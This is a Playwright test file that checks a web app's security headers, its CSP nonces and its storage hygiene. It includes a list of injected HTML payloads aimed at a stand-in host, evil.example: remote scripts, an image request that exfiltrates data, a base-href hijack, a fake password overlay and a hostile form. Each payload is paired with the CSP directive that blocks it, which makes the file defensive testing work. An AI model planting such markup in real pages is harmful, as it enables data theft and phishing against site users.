import type { Page } from '@playwright/test'
import { expect, openSecurity, openSignedIn, SECURITY, test } from './support/test'

/** One of everything that the app answers with; `tests/server/security-headers.test.ts` has the values. */
const ANSWERS: [method: string, path: string, status: number][] = [
  ['GET', '/sign-in', 200],
  ['HEAD', '/sign-in', 200],
  ['GET', '/signed-out?reason=terminated', 200],
  ['GET', '/', 307],
  ['GET', SECURITY, 307],
  ['GET', '/settings/', 308],
  ['GET', '/no/such/page', 404],
  ['GET', '/_next/static/no-such-file.js', 404],
  ['GET', '/no-such-file.ico', 404],
  ['GET', '/icon.svg', 200],
  ['GET', '/api/no/such/address', 404],
  ['GET', '/api/auth/session', 404],
  ['GET', '/api/sessions/events', 204],
  ['POST', '/api/sessions/events', 405],
  ['POST', '/api/auth/callback/oidc', 405],
  ['PUT', '/sign-in', 405],
  ['POST', '/sign-in', 200],
  ['GET', '/%', 400],
]

for (const [method, path, status] of ANSWERS) {
  test(`${method} ${path} is ${status} with all security headers`, async ({ request }) => {
    const answer = await request.fetch(path, { method, maxRedirects: 0 })
    const headers = answer.headers()

    expect(answer.status()).toBe(status)
    expect(headers['content-security-policy']).toMatch(
      path.startsWith('/api/')
        ? /^default-src 'none'; form-action/
        : /^default-src 'none'; script-src 'nonce-/,
    )
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'same-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    })
    for (const name of ['server', 'x-powered-by', 'access-control-allow-origin']) {
      expect(headers).not.toHaveProperty(name)
    }
    const isKept = path === '/icon.svg'
    expect(headers['cache-control']).toContain(isKept ? 'must-revalidate' : 'no-store')
  })
}

test('a signed-in person’s answers carry them too, and files are still kept', async ({
  ada,
  openDevice,
}) => {
  const page = await openDevice()
  const files: Record<string, string>[] = []
  page.on('response', (response) => {
    if (response.url().includes('/_next/static/')) files.push(response.headers())
  })
  await openSignedIn(page, ada)

  for (const path of ['/', '/settings/general', SECURITY]) {
    const headers = (await page.request.get(path)).headers()
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
    expect(headers['cache-control']).toContain('no-store')
  }
  expect(files.length).toBeGreaterThan(0)
  for (const headers of files) {
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
    expect(headers['cache-control']).toBe('public, max-age=31536000, immutable')
  }
})

test('each script of each page has the nonce of its own answer', async ({ ada, openDevice }) => {
  const page = await openDevice()
  await openSignedIn(page, ada)

  for (const path of ['/', SECURITY, '/sign-in', '/signed-out', '/no/such/page']) {
    const answer = await page.request.get(path)
    const policy = answer.headers()['content-security-policy'] ?? ''
    const [, nonce] = /'nonce-([^']+)'/.exec(policy) ?? []
    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? []

    expect(scripts.length).toBeGreaterThan(0)
    for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`)
  }
})

/** Markup that was injected into a page, and the directive that stops it. */
const INJECTIONS: [html: string, directive: string][] = [
  ['<script>window.ran = true</script>', 'script-src-elem'],
  ['<script src="/_next/static/x.js"></script>', 'script-src-elem'],
  ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
  ['<img src="/icon.svg" onload="window.ran = true">', 'script-src-attr'],
  ['<iframe src="/sign-in"></iframe>', 'frame-src'],
  ['<img src="https://evil.example/?stolen">', 'img-src'],
  ['<object data="/icon.svg"></object>', 'object-src'],
  ['<base href="https://evil.example/">', 'base-uri'],
  ['<style>body { color: red }</style>', 'style-src-elem'],
  ['<p style="position: fixed; inset: 0">Your password, please</p>', 'style-src-attr'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'style-src-elem'],
  ['<audio src="https://evil.example/x"></audio>', 'media-src'],
]

for (const [html, directive] of INJECTIONS) {
  test(`a page with ${html} injected does nothing with it`, async ({ openDevice }) => {
    const { violations, page } = await openInjected(await openDevice(), html)

    await expect.poll(violations).toEqual([directive])
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  })
}

test('an injected form is not sent', async ({ openDevice }) => {
  const form = '<form action="https://evil.example/"><button>Win</button></form>'
  const { page } = await openInjected(await openDevice(), form)
  const refusal = page.waitForEvent('console', (message) => message.text().includes('form-action'))

  await page.getByRole('button', { name: 'Win' }).click({ noWaitAfter: true })

  await refusal
  expect(page.url()).toMatch(/\/signed-out$/)
})

test('nothing is left in the storage of a signed-in page', async ({ ada, openDevice }) => {
  const page = await openDevice()
  await openSecurity(page, ada)
  await page.getByRole('button', { name: 'Open profile menu' }).click()
  await page.getByRole('button', { name: 'Dark' }).click()
  await expect.poll(() => page.evaluate(() => document.cookie)).toBe('theme=dark')

  const stored = await page.evaluate(async () => ({
    local: { ...localStorage },
    session: { ...sessionStorage },
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }))

  expect(stored).toEqual({
    local: {},
    session: {},
    databases: [],
    caches: [],
    workers: 0,
  })
})

/** Opens a page with more in its body than the app has written there. */
async function openInjected(device: Page, html: string) {
  // Another page of that browser: what the policy says on its console is expected here.
  const page = await device.context().newPage()
  await page.route('/signed-out', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${html}</body>`)
    await route.fulfill({ response, body })
  })
  await page.addInitScript(() => {
    const violations = new Set<string>()
    Object.assign(window, { violations: () => [...violations] })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      violations.add(effectiveDirective)
    })
  })
  await page.goto('/signed-out')
  const violations = () => page.evaluate('window.violations()')
  return { page, violations }
}
